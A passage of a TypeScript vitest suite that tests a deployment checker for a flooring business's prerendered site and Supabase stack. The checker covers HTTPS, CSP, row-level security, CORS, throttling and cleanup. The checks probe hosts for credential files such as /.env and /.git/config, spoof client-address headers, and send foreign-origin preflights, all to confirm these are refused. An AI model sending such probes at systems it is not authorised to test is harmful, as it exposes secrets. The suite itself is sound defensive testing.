import { execFile, spawn, type ChildProcess } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { gzipSync } from 'node:zlib';
import pg from 'pg';
import { generate as generateCertificate } from 'selfsigned';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EMAIL_WORKER_ENTRY, PROCESSOR_ENTRY, PROJECT_ROOT } from '../../local-stack/paths';
import { listMigrations } from '../../local-stack/migrations';
import { findFreePort } from '../../local-stack/ports';
import { LOCAL_JWT_SECRET } from '../../local-stack/keys';
import { LOCAL_BUCKETS, type Stack } from '../../local-stack/stack';
import { sourceCommit } from '../../contracts/build-stamp';
import { RECOMMENDED_CSP } from '../../scripts/check-deployment/csp';
import { ZSTD_NOTE } from '../../scripts/check-deployment/http';
import { DEPLOYED_PAGES, LEAD_TABLES } from '../../scripts/check-deployment/pages';
import { eventually } from '../support/eventually';
import { startSiteUnderTest, type SiteUnderTest } from '../support/site-under-test';
import { deploymentCheckLeftoversSweep } from '../../visitor-data/deployment-check-leftovers';
import { createSupabaseVisitorFiles } from '../../visitor-data/visitor-files';
import { sqlAs } from '../support/supabase-shaped-database';
import { startThrowawayStack } from '../support/throwaway-stack';

/**
 * `npm run check:deployment` against the site as a deploy serves it (the production build, prerendered) and the
 * local stack: a healthy deployment passes every check and is left as it was; each deployment broken on purpose
 * fails with the line that names what is broken.
 */
const run = promisify(execFile);
let site: SiteUnderTest;
/** Where a second host serves the same build (below, a host that gets things wrong); the processor takes its photos too. */
let otherHostPort: number;
/** Where a second https host serves the same build (below, one that sends its security headers with some pages only). */
let otherHttpsPort: number;
/** The site as a deployed host serves it: over https (a certificate made for this run) with HSTS. */
let httpsSite: { url: string; close(): Promise<void> };
let certificateFolder: string;
const HSTS = 'max-age=31536000; includeSubDomains';
/**
 * Supabase's management API as the check asks it (GET /v1/projects/{ref}/functions, with a personal access token),
 * answering `edgeFunctions`: what a project's Edge Functions page would list (session 25).
 */
let managementApi: { url: string; close(): Promise<void> };
let edgeFunctions: unknown[] = [];
const MANAGEMENT_TOKEN = 'sbp_0123456789abcdef0123456789abcdef01234567';
const PROJECT_REF = 'abcdefghijklmnopqrst';
/** A deployment built as the owner builds it: the business's own facts, not the placeholders of src/config/settings.ts. */
const OWNER_SETTINGS = {
  VITE_BUSINESS_NAME: 'Haddon Floorworks',
  VITE_BUSINESS_PHONE: '(856) 555-0142',
  VITE_BUSINESS_EMAIL: 'office@haddon-floorworks.test',
  VITE_BUSINESS_POSTAL_ADDRESS: '1 Test Avenue, Haddonfield, NJ 08033',
  VITE_BUSINESS_NJ_HIC_REGISTRATION: '13VH01234567',
  VITE_BUSINESS_FACEBOOK_URL: 'https://www.facebook.com/haddonfloorworks',
  VITE_BUSINESS_INSTAGRAM_URL: 'https://www.instagram.com/haddonfloorworks',
};

beforeAll(async () => {
  // One commit for the site's build and every processor started here, whatever happens to the checkout meanwhile (an
  // edit, a merge into it while the suite runs): the line compares two builds, not the checkout at two moments.
  process.env.SOURCE_COMMIT ??= sourceCommit(PROJECT_ROOT);
  otherHostPort = await findFreePort();
  otherHttpsPort = await findFreePort();
  const httpsPort = await findFreePort();
  site = await startSiteUnderTest({
    throttleMaxWrites: 1000,
    moreSiteOrigins: [`http://127.0.0.1:${otherHostPort}`, `https://127.0.0.1:${httpsPort}`, `https://127.0.0.1:${otherHttpsPort}`],
    businessSettings: OWNER_SETTINGS,
    // The e-mails link to the site as a host serves it (the https front below), as the owner's SITE_URL would.
    emailSiteUrl: `https://127.0.0.1:${httpsPort}`,
  });
  certificateFolder = fs.mkdtempSync(path.join(os.tmpdir(), 'check-deployment-tls-'));
  const [key, cert] = [path.join(certificateFolder, 'key.pem'), path.join(certificateFolder, 'cert.pem')];
  // Made in Node (selfsigned, on its WebCrypto), not with the openssl program: a machine with only Node and npm
  // runs this test too.
  const tls = await generateCertificate([{ name: 'commonName', value: '127.0.0.1' }], {
    keySize: 2048,
    algorithm: 'sha256',
    notAfterDate: new Date(Date.now() + 24 * 3600 * 1000),
    extensions: [{ name: 'subjectAltName', altNames: [{ type: 7, ip: '127.0.0.1' }] }],
  });
  fs.writeFileSync(key, tls.private);
  fs.writeFileSync(cert, tls.cert);
  httpsSite = await startHost(site.siteUrl, httpsPort, async (_asked, upstream) => {
    const reply = await upstream();
    // And decision 033's policy, as the README tells each host to send it.
    return { ...reply, headers: { ...reply.headers, 'strict-transport-security': HSTS, 'content-security-policy': RECOMMENDED_CSP } };
  }, { key: fs.readFileSync(key), cert: fs.readFileSync(cert) });
  const api = http.createServer((incoming, outgoing) => {
    const send = (status: number, body: unknown) => outgoing.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body));
    if (incoming.headers.authorization !== `Bearer ${MANAGEMENT_TOKEN}`) return send(401, { message: 'Unauthorized' });
    if (incoming.method !== 'GET' || incoming.url !== `/v1/projects/${PROJECT_REF}/functions`) return send(404, { message: 'Not found' });
    return send(200, edgeFunctions);
  });
  const apiPort = await findFreePort();
  await new Promise<void>((resolve) => api.listen(apiPort, '127.0.0.1', resolve));
  managementApi = { url: `http://127.0.0.1:${apiPort}`, close: () => new Promise<void>((resolve) => api.close(() => resolve())) };
}, 600_000);
afterAll(async () => {
  await managementApi?.close();
  await httpsSite?.close();
  await site?.stop();
  if (certificateFolder) fs.rmSync(certificateFolder, { recursive: true, force: true });
});

/** The commit the site's build and the processor here say, as the check shortens it: this checkout's. */
const checkoutCommit = () => sourceCommit(PROJECT_ROOT).replace(/^([0-9a-f]{12})[0-9a-f]*/, '$1');

type CheckRun = { code: number; lines: string[]; failed: string[] };

/** The arguments every run gets unless it says otherwise: two client addresses, and the build the site serves. */
const defaultArgs = () => ['--client-addresses', '127.0.0.2,127.0.0.3', '--build-dir', site.buildDir];

/**
 * The owner the check reads src/config/owner-claims.ts of: by default one who has confirmed every claim (the test's
 * owner, as OWNER_SETTINGS are its settings; tests/support/confirm-owner-claims.mjs), or the list as the checkout has it.
 */
type ClaimsOwner = { claims: 'all confirmed' | 'as listed' };

async function checkDeployment(env: Record<string, string>, args = defaultArgs(), siteUrl = site.siteUrl, { claims }: ClaimsOwner = { claims: 'all confirmed' }): Promise<CheckRun> {
  const owner = claims === 'all confirmed' ? ['--import', './tests/support/confirm-owner-claims.mjs'] : [];
  // Two loopback addresses play two visitors: the gateway takes the client address from the connection.
  const result = await run(process.execPath, ['--import', 'tsx', ...owner, 'scripts/check-deployment/main.ts', siteUrl, ...args], {
    cwd: PROJECT_ROOT,
    env: { PATH: process.env.PATH ?? '', NODE_EXTRA_CA_CERTS: path.join(certificateFolder, 'cert.pem'), ...env },
  }).then(
    (done) => ({ code: 0, stdout: done.stdout }),
    (error: { code: number; stdout: string }) => ({ code: error.code, stdout: error.stdout }),
  );
  const lines = result.stdout.split('\n').filter(Boolean);
  if (process.env.CHECK_LOG) console.log(lines.join('\n'));
  const failed = lines.filter((line) => line.startsWith('FAIL '));
  // Whatever else a run shows, its exit code and last line agree with its lines: no 0 beside a FAIL, no pass for a
  // skip, and no exit code but 0 and 1 (a caller testing `$? -ne 1` took 3 for a pass; verdict.ts).
  const nameOf = (line: string) => line.slice('skip  '.length, line.indexOf(': '));
  const checks = lines.filter((line) => /^(ok {3}|FAIL|skip) /.test(line));
  const [failedNames, skippedNames] = [failed.map(nameOf), lines.filter((line) => line.startsWith('skip ')).map(nameOf)];
  expect([result.code, lines.at(-1)], lines.join('\n')).toEqual(
    failed.length > 0
      ? [1, `FAIL: ${failed.length} of ${checks.length} checks failed (${failedNames.join('; ')})${skippedNames.length > 0 ? `, and ${skippedNames.length} could not run from here (${skippedNames.join('; ')})` : ''}.`]
      : skippedNames.length > 0
        ? [1, `NOT CHECKED: ${skippedNames.length} of ${checks.length} checks could not run from here (${skippedNames.join('; ')}), so the deployment is not known to work; none of the others failed.`]
        : [0, expect.stringMatching(new RegExp(`^PASS: the deployment passed all ${checks.length} checks: the site ${new URL(siteUrl).origin}, `))],
  );
  return { code: result.code, lines, failed };
}

const sqlOn = (stack: Stack) => <T extends pg.QueryResultRow>(text: string, values: unknown[] = []) => sqlAs<T>(stack.superuserUrl, text, values);
const sql = <T extends pg.QueryResultRow>(text: string, values: unknown[] = []) => sqlOn(site.stack)<T>(text, values);

const envFor = (stack: Stack, webhookUrl = stack.webhookUrl): Record<string, string> => ({
  SUPABASE_URL: stack.url,
  SUPABASE_ANON_KEY: stack.anonKey,
  SUPABASE_SERVICE_ROLE_KEY: stack.serviceRoleKey,
  VITE_VISUALIZER_WEBHOOK_URL: webhookUrl,
  // The local stack runs no edge function; the fake management API lists what a test puts in edgeFunctions.
  SUPABASE_ACCESS_TOKEN: MANAGEMENT_TOKEN,
  SUPABASE_MANAGEMENT_API_URL: managementApi.url,
  SUPABASE_PROJECT_REF: PROJECT_REF,
});

/** An answer; a Buffer body is sent as bytes (a file with binary data added), the target's are read as text. */
type Answer = { status: number; headers: Record<string, string>; body: string | Buffer; cutOffAfter?: number };
type TargetAnswer = Answer & { body: string };
type Asked = { method: string; path: string; headers: http.IncomingHttpHeaders };

/**
 * A host in front of `target` that answers as `answer` says; `upstream(path, replacing)` is what the target answers
 * (for the path asked, or another; with some request headers replaced). Bodies are read whole; `cutOffAfter` sends that many characters and drops the connection.
 */
async function startHost(
  target: string,
  port: number,
  answer: (asked: Asked, upstream: (path?: string, replacing?: Record<string, string>) => Promise<TargetAnswer>) => Promise<Answer>,
  tls?: { key: Buffer; cert: Buffer },
) {
  const handle = (incoming: http.IncomingMessage, outgoing: http.ServerResponse) => {
    const chunks: Buffer[] = [];
    incoming.on('data', (chunk: Buffer) => chunks.push(chunk));
    incoming.on('end', async () => {
      const asked = { method: incoming.method ?? 'GET', path: incoming.url ?? '/', headers: incoming.headers };
      const upstream = async (path = asked.path, replacing: Record<string, string> = {}): Promise<TargetAnswer> => {
        const headers = {
          ...(Object.fromEntries(
            Object.entries(incoming.headers).filter(([name]) => !['host', 'connection', 'content-length', 'accept-encoding'].includes(name)),
          ) as Record<string, string>),
          ...replacing,
        };
        const body = chunks.length > 0 ? Buffer.concat(chunks) : undefined;
        const reply = await fetch(`${target}${path}`, { method: asked.method, headers, body, redirect: 'manual' });
        const kept = [...reply.headers].filter(([name]) => !['content-encoding', 'content-length', 'transfer-encoding', 'connection'].includes(name));
        return { status: reply.status, headers: Object.fromEntries(kept), body: await reply.text() };
      };
      try {
        const { status, headers, body, cutOffAfter } = await answer(asked, upstream);
        outgoing.writeHead(status, { ...headers, 'content-length': String(Buffer.byteLength(body)) });
        if (cutOffAfter === undefined) outgoing.end(body);
        else outgoing.write(body.slice(0, cutOffAfter), () => outgoing.destroy());
      } catch (error) {
        outgoing.writeHead(502).end(String(error));
      }
    });
  };
  const server = tls ? https.createServer(tls, handle) : http.createServer(handle);
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  return { url: `${tls ? 'https' : 'http'}://127.0.0.1:${port}`, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

/** What a check leaves in a stack: marked rows, rows with the test address, e-mails about them, stored files. */
async function leftovers(stack: Stack): Promise<string[]> {
  const query = sqlOn(stack);
  const found: string[] = [];
  for (const table of LEAD_TABLES) {
    const rows = await query(`select id from public.${table} where email = 'deployment-check@example.com'`);
    if (rows.length > 0) found.push(`${rows.length} row(s) in ${table}`);
  }
  const marks = await query('select row_id from back_office.deployment_check_rows');
  if (marks.length > 0) found.push(`${marks.length} mark(s)`);
  const emails = await query(
    `select id from back_office.outbound_emails where recipient = 'deployment-check@example.com' or source_id in (select row_id from back_office.deployment_check_rows)`,
  );
  if (emails.length > 0) found.push(`${emails.length} e-mail(s)`);
  // The unsubscribe step's: the test address's unsubscribe, the worker's link, a job still waiting.
  const unsubscribed = await query(`select 1 from back_office.email_unsubscribes where mailbox_digest = back_office.mailbox_digest('deployment-check@example.com')`);
  if (unsubscribed.length > 0) found.push("the test address's unsubscribe");
  const links = await query('select 1 from back_office.deployment_check_unsubscribe_links');
  if (links.length > 0) found.push('the unsubscribe link');
  const jobs = await query(`select 1 from graphile_worker.jobs where key = 'deployment-check-unsubscribe-link'`);
  if (jobs.length > 0) found.push('the unsubscribe link job');
  const files = fs.readdirSync(stack.storageDir, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile() && !entry.name.startsWith('.'));
  if (files.length > 0) found.push(`${files.length} stored file(s): ${files.map((file) => file.name).join(', ')}`);
  return found;
}

describe('npm run check:deployment on a healthy deployment', () => {
  it('passes every check, one line each, and leaves nothing: no row, no file, no e-mail', async () => {
    // Served as a host serves it: over https, with HSTS.
    const { code, lines, failed } = await checkDeployment(envFor(site.stack), undefined, httpsSite.url);

    expect(failed, lines.join('\n')).toEqual([]);
    expect(code).toBe(0);
    const checks = lines.filter((line) => /^(ok|FAIL|skip) /.test(line));
    // Pages, the unknown path, the site's settings and secrets, its build, the build machine's files, its services' https, https, its content security policy, robots.txt; planting, each lead table,
    // the database's migrations; changes, views and functions; both buckets; CORS twice, /healthz; the heartbeats and both workers; staff e-mails;
    // retention; the test lead; the e-mails' unsubscribe link and their facts; the e-mail worker instances' settings; a photo for an unknown request; the test
    // photo and its files; the functions' grant; the removal; the throttle; the site's and the processor's commits; signed-in
    // users' access and the throttle's pre-request; the project's keys; who handles the photos; whether visitors reach the services; the pages' own address; storage policies; the checkout's age;
    // visitors' inserts; the code the pages run, on a phone and on a second visit; what sends leads elsewhere; the database's functions; its triggers; edge functions;
    // a foreign page's plain-text post; the address the processor counts (session 27); the site's other name (session 28);
    // the build folder held to its commit, and every table the API serves guarded (session 29); no other bucket and the policies the migrations' own (session 30);
    // the schemas the API serves, and the processor's and the API's hosts asked for the build machine's files (session 31);
    // what the processor's and the API's hosts answer a malformed request (session 32); the hosts' folders and leftovers (session 33);
    // the owner's claims on the pages (session 34).
    expect(checks).toHaveLength(1 + 1 + DEPLOYED_PAGES.length + 1 + 1 + 2 + 2 + 4 + 1 + 1 + LEAD_TABLES.length + 2 + 2 + 3 + 3 + 1 + 1 + 2 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 2 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1 + 1);
    // No host lists a folder: the site's build folders and the usual ones, the API's and processor's host's too.
    expect(lines).toContainEqual(
      expect.stringMatching(
        new RegExp(`^ok {4}no host lists a folder or hands out a leftover file: ${httpsSite.url.replace(/\./g, '\\.')}, ${new URL(site.stack.url).origin.replace(/\./g, '\\.')} list none of \\d+ folders asked and hand out none of 16 leftover files \\(\\d+ answers\\); a file at a path no line asks and no listing shows is not seen$`),
      ),
    );
    expect(lines).toContain('ok    every table the API serves has row-level security: no table in public, graphql_public or another schema the public key or a signed-in user may use has row-level security off, and no view, materialized view or foreign table there reads as its owner, while either holds a privilege on it');
    // The folder the host is held to is the build of the commit its stamp names: the check built it again elsewhere.
    expect(lines).toContainEqual(
      expect.stringMatching(
        new RegExp(`^ok {4}build folder ${site.buildDir} is what its commit builds: ${site.buildDir}/ is byte for byte the build of [0-9a-f]{12}\\S* .*with the \\d+ settings its stamp names: its \\d+ files, none more or less \\((rebuilt from this checkout's git in \\d+ s|compared with the rebuild kept in node_modules/\\.cache/check-deployment/rebuilds/[0-9a-f]+\\.json)\\)$`),
      ),
    );
    // Each function's body in the database is the md5 of the text its migration gives it (pg_proc.prosrc, verbatim),
    // its security and SET options are its migration's, and the migrations' role (here the superuser postgres) owns it.
    expect(lines.some((line) => /^ok {4}database functions are the migrations' own: the \d+ functions the migrations make are in the database with the migrations' bodies, security and SET options, owned by postgres$/.test(line)), lines.join('\n')).toBe(true);
    // Each trigger as pg_get_triggerdef prints it reads as its migration's statement (the two `when`s included).
    expect(lines).toContain(`ok    project runs no edge function but the checkout's: the management API lists no edge function on project ${PROJECT_REF}, and the checkout deploys none`);
    expect(lines).toContain("ok    database triggers are the migrations' own and fire: the 31 triggers the migrations make are in the database as they make them and fire, no other is on the project's tables, and no role's sessions are set to skip triggers");
    expect(lines.some((line) => /^ok {4}nothing in the database sends leads elsewhere: the lead tables' \d+ triggers are the migrations' own, and no rule, publication \(but Realtime's\) or pg_cron job reads them$/.test(line)), lines.join('\n')).toBe(true);
    // The stack's processor draws the floors itself, and the site is built without an engine company.
    expect(lines).toContain("ok    privacy page names who handles visitors' photos: the processor draws the floors itself, and the privacy page says so (no other company gets the photos)");
    expect(lines).toContain("ok    project's keys are its own: the local stack's published keys, on this machine's own address, which no one else reaches");
    expect(lines).toContain('ok    signed-in users cannot read, change or delete lead rows: no lead table lets the authenticated role read, change or delete a row, and it may call no security definer function that anon may not');
    expect(lines).toContain("ok    write throttle runs before every API request: the authenticator role's pgrst.db_pre_request is private.throttle_anonymous_writes, and PostgREST ran it before the check's own request");
    // The local stack has no storage schema (its gateway serves files from disk): no policy at all.
    expect(lines).toContain('ok    no storage policy lets visitors or signed-in users reach a bucket: no policy on storage.objects or storage.buckets applies to anon or authenticated, whatever bucket it names');
    expect(lines).toContain('ok    project has no storage bucket but the photo buckets: Storage lists 2 buckets, none but floor-visualizer and floor-visualizer-uploads');
    expect(lines).toContain("ok    row-level policies are the migrations' own: the 10 policies the migrations make are in the database as they make them, and no table the API serves has another");
    expect(lines).toContain('ok    the API serves no schema but public and graphql_public: it serves public, the schemas the lines on row-level security, views, policies and functions read');
    expect(lines).toContain(`ok    processor and API hand out no file of their machine: ${new URL(site.stack.url).origin} serves none of /.env, /.env.local, /.env.production, /.env.production.local, /.git/config`);
    expect(lines).toContain('ok    processor and API errors reveal nothing of their machine: a photo post whose body is not JSON (400), a path not percent-encoded right (404) told no stack trace, file, address, statement, setting or key');
    // The site's build and the processor both run from this checkout: one commit (with this checkout's changes, if any).
    expect(lines).toContain(`ok    site and processor built from one commit: both built from ${checkoutCommit()}${checkoutCommit().endsWith('-modified') ? ' (with uncommitted changes, which may differ between the two builds)' : ''}`);
    // The check runs from the checkout the site was built from (or a later commit, if one changing no deployed file landed meanwhile).
    expect(lines.some((line) => /^ok {4}deployment is the version of this checkout: (the check runs from the deployed commit, [0-9a-f]{12}|this checkout \([0-9a-f]{12}\) is \d+ commit\(s\) later than the deployed commit [0-9a-f]{12}, and they change nothing that is deployed \(only docs, tests or the check itself\))$/.test(line)), lines.join('\n')).toBe(true);
    // The stack's e-mail worker runs with the owner's settings, as the site was built.
    expect(lines).toContain(
      `ok    e-mails show the business's own facts, link to the site and reach its inbox: the e-mail the worker made shows no placeholder of the business settings, gives the site's phone, e-mail address and registration number, makes no claim the owner has not confirmed, holds no secret key, its links open the site's pages on 127.0.0.1, and staff e-mails go to ${OWNER_SETTINGS.VITE_BUSINESS_EMAIL}, through 127.0.0.1, without a login, with STARTTLS only if the server offers it (an address only its own machine or network reaches); not read: the other e-mails the worker sends (a lead's confirmation, the guide, the office's)`,
    );
    // The link the e-mail worker puts in its e-mails (its UNSUBSCRIBE_URL: the gateway's route to the processor), followed.
    expect(lines).toContain(
      `ok    e-mails' unsubscribe link works: the e-mail worker's link (${site.stack.url}/functions/v1/floor-visualizer/unsubscribe) opens its page without unsubscribing, a forged one is refused (400), and one click unsubscribed the check's address (removed with the test rows); the page names the business and its link back opens the site's home page`,
    );
    expect(lines).toContain('ok    webhook refuses a photo for a request nobody made: 409: a photo for a request that does not exist is refused');
    // Sent with an address of its own in each client-address header: the gateway, as Cloudflare does, names the real one.
    expect(lines).toContain(
      "ok    processor counts each visitor by the address they send from: it counted the check's call as 127.0.0.1, the address this machine sends from as the project's API sees it, and none of the addresses the check wrote in 12 client-address headers (cf-connecting-ip, x-forwarded-for, x-real-ip...)",
    );
    expect(lines).toContain(
      'ok    webhook refuses a plain-text post from another site: a POST of text/plain from https://deployment-check.invalid and a POST with no Content-Type from https://deployment-check.invalid were refused (415) before being read, and their answers let no other origin read them',
    );
    expect(lines).toContain(`ok    database has every migration of this checkout: all ${listMigrations().length} migrations of supabase/migrations/ are applied`);
    expect(lines).toContain("ok    every e-mail worker instance runs with the settings checked: one instance is alive: the one the lines above checked, built from the site's commit");
    expect(lines).toContainEqual(
      expect.stringMatching(
        new RegExp(`^ok {4}site is the build in ${site.buildDir}: its ${DEPLOYED_PAGES.length} pages name the same scripts and stylesheets as ${site.buildDir}/ \\(their names carry the build's hashes\\), and the \\d+ it serves are ${site.buildDir}/'s byte for byte, asked bare and as desktop Chrome, Android's Chrome, an iPhone's Safari, Instagram's browser on an iPhone load them from the pages$`),
      ),
    );
    expect(lines).toContain(`ok    site served over https with HSTS: https, ${HSTS} (all ${DEPLOYED_PAGES.length} pages)`);
    expect(lines).toContain(`ok    pages send a content security policy: frame-ancestors 'none', and nothing the pages load is restricted (all ${DEPLOYED_PAGES.length} pages)`);
    expect(lines).toContain('ok    site hands out no file of the build machine: /.env, /.env.local, /.env.production, /.env.production.local, /.git/config are not served');
    // The build's VITE_SITE_URL is the preview's address on this machine; the https front is the same host name.
    expect(lines).toContain(`ok    pages say they live at this address: the ${DEPLOYED_PAGES.length} pages name addresses on 127.0.0.1 as theirs (their canonical links, from the build's VITE_SITE_URL)`);
    // The site under test is on this machine too (a preview): it may call services only this machine reaches.
    expect(lines).toContain("ok    site's services are reachable from visitors' devices: the site itself is at 127.0.0.1, which only this machine or its network reaches (a preview): its services may be too");
    // The local stack is on this machine over http, which browsers let an https page call (a deployed one is not).
    expect(lines).toContain(
      `ok    site calls its services over https: https, or this machine's own address (${new URL(site.stack.url).origin}), which browsers let an https page call`,
    );
    expect(lines).toContain(
      `ok    pages show the business's own facts: none of the ${DEPLOYED_PAGES.length} pages shows a placeholder of the business settings (name, phone, e-mail, address, NJ registration, social links)`,
    );
    expect(lines).toContain('ok    robots.txt lets search engines in: the pages may be listed');
    // Read in Chromium from the https front: the test's owner has confirmed every claim the pages make.
    expect(lines).toContainEqual(
      expect.stringMatching(
        /^ok {4}pages make no claim the owner has not confirmed: the 8 pages, as served and once their code ran, in Chromium as desktop Chrome, an Android phone's Chrome, an iPhone's Safari, show only claims the owner has confirmed in src\/config\/owner-claims\.ts \(\d+ of 14\) and no claim-shaped phrase the list lacks; not read: words shown only after a visitor acts \(a form's toast, the guide's Thank You panel, the visualizer's later steps\) and the e-mails \(the e-mail line reads one, the realtor welcome\)$/,
      ),
    );
    // An address has no bare or www. name: the line says it asked nothing (session 28; other-name-line.test.ts judges one).
    expect(lines).toContain("ok    site's other name serves no other site: 127.0.0.1 has no bare or www. name to ask (an address, a name of this network, or a sub-domain of another)");
    expect(lines).toContain("ok    no view, function, copy or policy hands the public key lead rows: no view anon may read reads a lead table as its owner, anon may call no security definer function of the owner's but the throttle, no other table or view gives it personal columns (public and every other schema it may use), and only the migrations' own read-back policy lets it read a lead table; not judged: what Supabase's own roles or an extension made in Supabase's schemas");
    expect(lines.some((line) => /^ok {4}retention job scheduled and running: (scheduled \d+ min ago, first run within the hour|hourly; last ran \d+ min ago, no failed run)$/.test(line)), lines.join('\n')).toBe(true);
    expect(lines).toContain('ok    staff e-mails of the last day sent: none failed or is being retried');
    expect(lines).toContain('ok    public key cannot open the stored photos: the public key neither opens nor lists its 2 stored images, and their public address opens nothing');
    expect(lines).toContain('ok    public key cannot change or delete lead rows: no lead table lets it update or delete a row');
    expect(lines).toContain(
      "ok    visitors' inserts store their rows: each of the 5 tables took the row its form sends, as the public key's role, answered its id, stored it as sent, and the four leads queued their e-mails (undone in the database: nothing sent, no write allowance spent)",
    );
    for (const page of DEPLOYED_PAGES) {
      expect(lines.some((line) => new RegExp(`^ok {4}page ${page}: 200, prerendered ".+", its \\d+ scripts and stylesheets served$`).test(line)), page).toBe(true);
    }
    expect(lines).toContain(`ok    pages run only the build's scripts, on a phone and on a second visit too: the ${DEPLOYED_PAGES.length} pages run only scripts the pages in ${site.buildDir}/ have, and phones (Android's Chrome, an iPhone's Safari, Instagram's browser), visitors from a Google search and an Instagram advert get the same pages (no page set a cookie, so a second visit is a first)`);
    expect(lines.some((line) => /^ok {4}site built for this deployment: its \d+ scripts use this project's URL, public key and webhook$/.test(line))).toBe(true);
    expect(lines.some((line) => /^ok {4}site publishes no secret key: none in its 7 pages, \d+ scripts, [1-9]\d* source maps and [1-9]\d* other files, whole, in pieces, base64- or hex-encoded, or gzip- or zip-compressed \(base64 too\); not seen: a key brotli-, zstd- or xz-compressed \(a \.woff2's tables\), encrypted or otherwise encoded, or served at a path no line asks$/.test(line)), lines.join('\n')).toBe(true);
    expect(lines).toContain(`ok    webhook CORS for the site: 204, allows ${new URL(httpsSite.url).origin} and the page's headers, and the webhook's answers allow ${new URL(httpsSite.url).origin} too`);
    for (const table of LEAD_TABLES) expect(lines).toContain(`ok    public key cannot read ${table}: a marked row is there, and the public key does not see it`);
    expect(lines).toContain(
      `ok    webhook CORS refuses other origins: a preflight from https://deployment-check.invalid is not allowed, nor from null, https://127.0.0.1.deployment-check.invalid:${new URL(httpsSite.url).port}, nor from a developer's or plain-http address (http://localhost:5173, http://127.0.0.1:5173, http://localhost:4173, http://127.0.0.1:4173, http://127.0.0.1:${new URL(httpsSite.url).port})`,
    );
    expect(lines.some((line) => /^ok {4}test photo stored and rendered: stored in this project's Storage, rendered \((200|202)\) and both images served$/.test(line))).toBe(true);
    expect(lines.some((line) => /^ok {4}test rows and photo removed: 5 rows and \d+ stored files removed; no e-mail was queued for them$/.test(line))).toBe(true);
    expect(lines.some((line) => line.startsWith('ok    throttle tells two clients apart: 127.0.0.2 and 127.0.0.3'))).toBe(true);
    // What a pass is a pass of, said first and in the pass itself (session 28).
    const checked = `the site ${new URL(httpsSite.url).origin}, the project ${site.stack.url} and the processor ${site.stack.webhookUrl}, held to the build in ${site.buildDir}/ by the lines of checkout ${checkoutCommit()}${ZSTD_NOTE ? ` (on Node ${process.version}, which asks for no zstd copy)` : ''}`;
    expect(lines[0]).toBe(`check:deployment of ${checked}`);
    expect(lines.at(-1)).toBe(`PASS: the deployment passed all ${checks.length} checks: ${checked}.`);
    expect(await leftovers(site.stack)).toEqual([]);
  }, 300_000);

  it('says what it could not check from here instead of blaming the deployment or passing it: one address, no build to compare, a site on this machine over http, no content security policy, no management token', async () => {
    // The stack's address is 127.0.0.1: an IPv4 literal, so both requests leave from IPv4.
    const noBuild = path.join(os.tmpdir(), `no-build-here-${process.pid}`);
    const { SUPABASE_ACCESS_TOKEN: _token, ...withoutToken } = envFor(site.stack);
    const { code, lines, failed } = await checkDeployment(withoutToken, ['--build-dir', noBuild]);

    expect(failed, lines.join('\n')).toEqual([]);
    expect(lines.filter((line) => line.startsWith('skip'))).toEqual([
      `skip  build folder ${noBuild} is what its commit builds: ${noBuild}/ holds no built site, so what the host should serve is not known; run the check where the uploaded build is, or name it with --build-dir`,
      `skip  site is the build in ${noBuild}: ${path.join(noBuild, 'index.html')} is not there, so which build the host serves is not known; run the check where the uploaded build is, or name it with --build-dir`,
      `skip  pages run only the build's scripts, on a phone and on a second visit too: phones (Android's Chrome, an iPhone's Safari, Instagram's browser), visitors from a Google search and an Instagram advert get the same pages (no page set a cookie, so a second visit is a first), but without the build in ${noBuild}/ the scripts the pages should run are not known (a host may add its own); run the check where the uploaded build is, or name it with --build-dir`,
      "skip  project runs no edge function but the checkout's: could not look: no SUPABASE_ACCESS_TOKEN is set, and only the management API lists a project's edge functions (a personal access token, from the dashboard's Account > Access Tokens; give it to the check as you give it the secret key); an edge function runs with the project's secret key (Supabase gives it SUPABASE_SERVICE_ROLE_KEY), and one deployed with verify_jwt off answers anyone, so one the business does not know of may hand out every lead",
      `skip  site served over https with HSTS: ${new URL(site.siteUrl).origin} is this machine (a local preview): https is asked of the deployed site's address`,
      `skip  pages send a content security policy: none sent: another site may show these pages in a frame of its own (clickjacking on the forms); send decision 033's header (README, "Site"): Content-Security-Policy: ${RECOMMENDED_CSP}`,
      expect.stringMatching(/^skip {2}throttle tells two clients apart: could not send from two addresses here; pass --client-addresses \(/),
    ]);
    // Named again at the end, first of all as not checked, and not a pass by its exit code either (not 3: `$? -ne 1`).
    expect(lines.at(-1)).toBe(
      `NOT CHECKED: 7 of ${lines.filter((line) => /^(ok {3}|FAIL|skip) /.test(line)).length} checks could not run from here (build folder ${noBuild} is what its commit builds; site is the build in ${noBuild}; pages run only the build's scripts, on a phone and on a second visit too; project runs no edge function but the checkout's; site served over https with HSTS; pages send a content security policy; throttle tells two clients apart), so the deployment is not known to work; none of the others failed.`,
    );
    expect(code).toBe(1);
  }, 300_000);

  it("reports the address the throttle itself counts for a request", async () => {
    const post = (path: string, key: string, body: string) =>
      new Promise<string>((resolve, reject) => {
        const url = new URL(`${site.stack.url}/rest/v1/${path}`);
        const outgoing = http.request(
          url,
          { method: 'POST', localAddress: '127.0.0.9', headers: { apikey: key, authorization: `Bearer ${key}`, 'content-type': 'application/json', prefer: 'return=minimal' } },
          (incoming) => {
            let text = '';
            incoming.on('data', (chunk) => (text += chunk));
            incoming.on('end', () => resolve(text));
          },
        );
        outgoing.on('error', reject);
        outgoing.end(body);
      });
    await post('contacts', site.stack.anonKey, JSON.stringify({ name: 'Throttle Check', email: 'throttle.check@example.com', phone: '856-555-0111', message: 'Hi' }));
    const reported = JSON.parse(await post('rpc/deployment_check_client_address', site.stack.serviceRoleKey, '{}')) as string;

    const counted = await sql<{ client_address: string }>('select client_address from private.insert_throttle_hits where client_address = $1', [reported]);
    expect(reported).toBe('127.0.0.9');
    expect(counted).toEqual([{ client_address: '127.0.0.9' }]);
  });
});

describe('npm run check:deployment stopped half-way', () => {
  /** Starts the check and stops it with `signal` once it has printed a line starting `after`; resolves with its lines, less its verdict, which must say it was stopped. */
